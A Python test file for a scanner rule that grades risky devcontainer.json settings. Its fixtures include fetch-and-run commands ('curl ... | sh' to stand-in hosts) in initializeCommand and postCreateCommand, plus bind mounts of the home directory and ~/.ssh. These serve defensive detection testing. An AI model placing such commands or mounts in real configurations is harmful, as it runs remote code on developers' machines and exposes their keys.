from lazaretto.detect.engine import Engine, FileResult
from lazaretto.detect.rules.repository.devcontainer import RULE
from lazaretto.model.finding import Confidence, Severity
from lazaretto.parse.blob import Blob
from lazaretto.parse.catalog import VIEWS


def examine(path: str, text: str) -> FileResult:
    return Engine([RULE], VIEWS).examine(Blob(path, text.encode()))


def graded(path: str, text: str) -> list[tuple[int, Severity, Confidence]]:
    result = examine(path, text)
    assert result.gaps == ()
    return [(f.locations[0].line, f.severity, f.confidence) for f in result.findings]


PATH = ".devcontainer/devcontainer.json"


def test_a_host_command_that_fetches() -> None:
    text = '{\n"initializeCommand": "curl -s https://a.invalid/i | sh"}'
    assert graded(PATH, text) == [(2, Severity.HIGH, Confidence.HIGH)]


def test_a_container_command_from_a_bare_address() -> None:
    text = '{"postCreateCommand": "curl -s http://203.0.113.7/i | sh"}'
    assert graded(PATH, text) == [(1, Severity.HIGH, Confidence.MEDIUM)]


def test_the_whole_home_is_mounted() -> None:
    text = '{"mounts": ["source=${localEnv:HOME},target=/h,type=bind"]}'
    assert graded(PATH, text) == [(1, Severity.MEDIUM, Confidence.MEDIUM)]
    text = '{"mounts": ["source=${localEnv:HOME}/.ssh,target=/h,type=bind"]}'
    assert graded(PATH, text) == [(1, Severity.LOW, Confidence.MEDIUM)]


def test_ordinary_definitions() -> None:
    text = """{"initializeCommand": "mkdir -p .cache", "postCreateCommand": "npm install -g x && curl https://sh.rustup.rs | sh",
    "mounts": ["source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind",
               "source=${localEnv:HOME}/.aspnet/https,target=/x,type=bind"]}"""
    assert [grade[1] for grade in graded(PATH, text)] == [Severity.LOW]
